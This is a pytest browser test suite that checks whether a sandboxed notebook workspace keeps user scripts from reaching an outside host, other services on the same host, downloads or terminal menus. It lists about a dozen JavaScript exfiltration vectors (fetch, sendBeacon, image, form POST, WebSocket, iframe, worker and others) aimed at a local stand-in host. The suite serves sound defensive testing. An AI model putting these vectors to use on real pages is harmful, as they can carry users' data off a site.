"""Scripts in a page of a workspace are user code: what they try, in a real browser."""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.builders.hub import open_lab, sign_in


pytestmark = [pytest.mark.hub, pytest.mark.browser, pytest.mark.sandbox]


@pytest.fixture(scope="module")
def elsewhere():
    """Another host, as far as the browser is concerned; it notes who comes."""
    visits = []

    class Note(BaseHTTPRequestHandler):
        def do_GET(self):
            visits.append(self.path)
            self.send_error(404)

        do_POST = do_GET  # noqa: N815 - http.server's name

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Note)
    server.visits = visits
    server.url = f"http://127.0.0.1:{server.server_port}"
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture(scope="module")
def context(browser):
    context = browser.new_context(accept_downloads=True)
    context.set_default_timeout(240_000)
    yield context
    context.close()


@pytest.fixture(scope="module")
def lab(context, enclave):
    """A page of the workspace, with nothing stopped on its way but by the enclave."""
    page = context.new_page()
    page.asked, page.downloads = [], []
    context.on("request", lambda request: page.asked.append(request.url))
    page.on("download", lambda file: page.downloads.append(file.url))
    sign_in(page, enclave, "rikke")
    page.goto(f"{enclave.url}/services/portal/")
    open_lab(page, enclave, "rikke")
    return page


def _asked_plainly(page, script):
    return page.evaluate(
        f"async () => {{ try {{ {script} }} catch (e) {{ return String(e) }} }}"
    )


def _asked(page, script, part):
    """Run a script; return what it said and the requests to such an address."""
    page.asked.clear()
    said = _asked_plainly(page, script)
    page.wait_for_timeout(500)
    return said, [url for url in page.asked if part in url]


ATTEMPTS = {
    "fetch": "return await fetch('HOST/x', {mode: 'no-cors'})",
    "beacon": "navigator.sendBeacon('HOST/x', 'data')",
    "image": "new Image().src = 'HOST/x'",
    "form": (
        "const f = document.createElement('form'); f.method = 'POST';"
        " f.action = 'HOST/x'; document.body.append(f); f.submit()"
    ),
    "websocket": "new WebSocket('HOST/x'.replace('http', 'ws'))",
    "style": (
        "const l = document.createElement('link'); l.rel = 'stylesheet';"
        " l.href = 'HOST/x'; document.head.append(l)"
    ),
    "script": (
        "const s = document.createElement('script'); s.src = 'HOST/x';"
        " document.head.append(s)"
    ),
    "frame": (
        "const f = document.createElement('iframe'); f.src = 'HOST/x';"
        " document.body.append(f)"
    ),
    "font": ("await new FontFace('x', 'url(HOST/x)').load()"),
    "worker": "new Worker('HOST/x')",
    "window": "window.open('HOST/x')",
}


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_nothing_reaches_another_host(lab, elsewhere, attempt):
    said, _ = _asked(lab, ATTEMPTS[attempt].replace("HOST", elsewhere.url), "")
    lab.wait_for_timeout(1000)
    assert elsewhere.visits == [], said


def test_the_other_host_would_have_noticed(browser, elsewhere):
    """Without the policy of a workspace each of them arrives."""
    page = browser.new_page()
    page.goto(f"{elsewhere.url}/page")
    elsewhere.visits.clear()
    for attempt in ("beacon", "image", "style", "script", "frame"):
        _asked_plainly(page, ATTEMPTS[attempt].replace("HOST", elsewhere.url))
    page.wait_for_timeout(2000)
    page.close()
    assert elsewhere.visits.count("/x") == 5
    elsewhere.visits.clear()


@pytest.mark.parametrize(
    "script",
    [
        "return (await fetch('/services/portal/api/projects')).status",
        "return (await fetch('/hub/api/user')).status",
        "return (await fetch('/user/rikke/another-study/api/contents')).status",
        (
            "const f = document.createElement('form'); f.method = 'POST';"
            " f.action = '/services/portal/api/applications'; document.body.append(f);"
            " f.submit()"
        ),
    ],
)
def test_hub_portal_and_other_projects_are_not_reached_on_this_host(lab, script):
    said, sent = _asked(lab, script, "/services/")
    assert sent == []
    assert said is None or "TypeError" in said


def test_another_page_cannot_be_framed(lab):
    said, _ = _asked(
        lab,
        "const f = document.createElement('iframe'); f.src = '/services/portal/';"
        " document.body.append(f); await new Promise(r => setTimeout(r, 1500));"
        " try { return f.contentDocument.body.innerText } catch { return 'closed' }",
        "",
    )
    assert "Rikke" not in (said or "")


def test_no_window_opened_and_nothing_is_downloaded(context, lab):
    _asked(
        lab,
        "const a = document.createElement('a'); a.download = 'leak.csv';"
        " a.href = URL.createObjectURL(new Blob(['x,y'])); document.body.append(a);"
        " a.click(); await new Promise(r => setTimeout(r, 1000))",
        "",
    )
    assert context.pages == [lab]
    assert lab.downloads == []


def test_the_menus_offer_no_way_out_either(context, lab):
    page = context.new_page()
    page.goto(lab.url)
    page.locator(".lm-MenuBar-itemLabel").get_by_text("File", exact=True).click()
    menu = page.locator(".lm-Menu")
    menu.get_by_text("New Launcher").wait_for()
    labels = menu.locator(".lm-Menu-itemLabel").all_inner_texts()
    page.keyboard.press("Escape")
    launcher = page.locator(".jp-Launcher").inner_text()
    page.close()
    assert [label for label in labels if "New" in label]
    for word in ("Download", "Export", "Print", "Hub Control Panel", "Terminal"):
        assert not [label for label in labels if word in label]
    assert "Terminal" not in launcher
